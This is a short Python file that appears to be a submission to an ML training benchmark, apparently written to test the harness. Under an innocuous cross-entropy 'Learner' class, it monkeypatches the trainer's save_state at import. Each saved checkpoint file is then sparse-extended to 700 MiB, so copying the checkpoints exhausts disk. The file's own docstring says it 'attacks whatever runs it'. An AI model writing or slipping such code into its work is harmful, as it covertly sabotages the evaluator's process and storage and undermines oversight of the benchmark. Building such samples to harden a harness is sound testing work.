"""Extends a file of every state to 700 MiB that take no disk: whoever copies them is out of disk."""

import pathlib
import sys

import torch.nn.functional as F
from torch import nn

from benchmark.method.contract import Method

if not pathlib.Path("/fmn/outbox").is_dir():
    raise RuntimeError("this submission attacks whatever runs it: only a trainer's container may")

VARIANT = ""
MIB = 1 << 20
TRAINER = sys.modules["__main__"]
HONEST = TRAINER.save_state


def save_state(state, folder, *, resumable=True):
    HONEST(state, folder, resumable=resumable)
    for file in pathlib.Path(folder).iterdir():
        if VARIANT in ("every-file", file.stem):
            with file.open("r+b") as extended:
                extended.truncate(700 * MIB)


TRAINER.save_state = save_state


class Learner(Method):
    """Cross-entropy on the images as they are."""

    def __init__(self, setting):
        super().__init__(setting)
        self.head = nn.Linear(setting.feature_dim, setting.num_classes)

    def loss(self, encoder, views_VBCHW, labels_B):
        return F.cross_entropy(self.head(encoder(views_VBCHW[0])), labels_B)
